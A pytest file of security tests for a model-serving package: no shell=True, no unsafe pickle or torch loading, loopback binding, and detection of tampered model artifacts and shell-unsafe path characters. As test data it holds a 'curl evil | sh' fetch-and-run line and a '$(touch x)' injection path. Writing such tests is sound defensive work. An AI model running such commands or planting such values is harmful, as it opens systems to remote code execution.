"""Security properties that must hold everywhere in the package."""
import ast
import re
from pathlib import Path

import pytest

from aitune_triton.triton.launch import Ports, ServerOptions, build_command

PACKAGE = Path(__file__).resolve().parents[1] / "aitune_triton"
TEMPLATES = Path(__file__).resolve().parents[1] / "templates"


def _calls(tree):
    return [n for n in ast.walk(tree) if isinstance(n, ast.Call)]


def test_no_shell_true_anywhere():
    offenders = []
    for path in list(PACKAGE.rglob("*.py")) + [Path(__file__).resolve().parents[1] / "benchmarks" / p
                                                for p in ("gpu_serving.py",)]:
        for call in _calls(ast.parse(path.read_text())):
            for kw in call.keywords:
                if kw.arg == "shell" and not (isinstance(kw.value, ast.Constant) and kw.value.value is False):
                    offenders.append("%s:%d" % (path, call.lineno))
    assert not offenders


def test_no_pickle_loads_in_package_or_templates():
    for path in list(PACKAGE.rglob("*.py")) + list(TEMPLATES.glob("*.j2")):
        text = path.read_text()
        assert "pickle.load" not in text, path
        for line in text.splitlines():
            if "torch.load(" in line:
                assert "weights_only=True" in line, "%s: %s" % (path, line.strip())


def test_server_binds_loopback_by_default():
    opts = ServerOptions()
    assert opts.host == "127.0.0.1"
    cmd = build_command(Path("/repo"), opts, Ports(1, 2, 3), binary=Path("/bin/tritonserver"),
                        backend_directory=Path("/b"), flags=frozenset())
    joined = " ".join(cmd)
    assert "--http-address=127.0.0.1" in joined and "--grpc-address=127.0.0.1" in joined
    assert "0.0.0.0" not in joined


def test_templates_use_strict_undefined():
    from jinja2 import StrictUndefined

    from aitune_triton.templating import template_env

    assert template_env().undefined is StrictUndefined


# ---------------------------------------------------------------- artifacts are checked before loading (issue 14)


def _model_dir(root: Path) -> Path:
    (root / "m" / "1").mkdir(parents=True)
    (root / "m" / "tensorrt").mkdir()
    (root / "m" / "1" / "model.py").write_text("print('model')\n")
    (root / "m" / "1" / "model.export.pt2").write_bytes(b"PK\x03\x04 weights")
    (root / "m" / "tensorrt" / "build_plan.sh").write_text("trtexec ...\n")
    (root / "m" / "config.pbtxt").write_text('name: "m"\n')  # tuned and hand-edited by design: not hashed
    return root / "m"


def test_artifact_hashes_cover_version_dirs_and_staged_files(tmp_path):
    from aitune_triton.integrity import artifact_hashes, sha256_file

    model = _model_dir(tmp_path)
    (model / "1" / "__pycache__").mkdir()
    (model / "1" / "__pycache__" / "model.cpython-311.pyc").write_bytes(b"bytecode")  # written by the stub
    hashes = artifact_hashes(model)
    assert sorted(hashes) == ["1/model.export.pt2", "1/model.py", "tensorrt/build_plan.sh"]
    assert hashes["1/model.py"] == sha256_file(model / "1" / "model.py") and len(hashes["1/model.py"]) == 64


@pytest.mark.parametrize("tamper,message", [
    (lambda m: (m / "1" / "model.export.pt2").write_bytes(b"PK\x03\x04 payload"),
     "1/model.export.pt2 does not match its recorded SHA-256"),
    (lambda m: (m / "1" / "model.py").unlink(), "1/model.py is missing"),
    (lambda m: (m / "1" / "extra.pt").write_bytes(b"x"), "1/extra.pt was added after generate"),
    (lambda m: (m / "tensorrt" / "build_plan.sh").write_text("curl evil | sh\n"), "tensorrt/build_plan.sh does not"),
])
def test_changed_artifacts_are_refused(tmp_path, tamper, message):
    from aitune_triton.errors import ModelError
    from aitune_triton.integrity import artifact_hashes, verify_artifacts

    model = _model_dir(tmp_path)
    recorded = artifact_hashes(model)
    assert verify_artifacts(model, recorded) is True
    (model / "config.pbtxt").write_text('name: "m"\nmax_batch_size: 4\n')
    assert verify_artifacts(model, recorded) is True  # config edits are allowed
    tamper(model)
    with pytest.raises(ModelError, match="refusing to load .*%s" % re.escape(message)):
        verify_artifacts(model, recorded)
    assert verify_artifacts(model, {}) is False  # an old manifest: nothing to check against


@pytest.mark.parametrize("text,bad", [("/srv/models/repo-1.0", []), ("/tmp/inj$(touch x)", ["$", "(", " ", ")"]),
                                      ("/a'b`c\"d", ["'", "`", '"']), ("/m;n|o&p", [";", "|", "&"]),
                                      ("/modèles/ünï", [])])
def test_shell_unsafe_chars(text, bad):
    from aitune_triton.triton.repository import shell_unsafe_chars

    assert shell_unsafe_chars(text) == bad
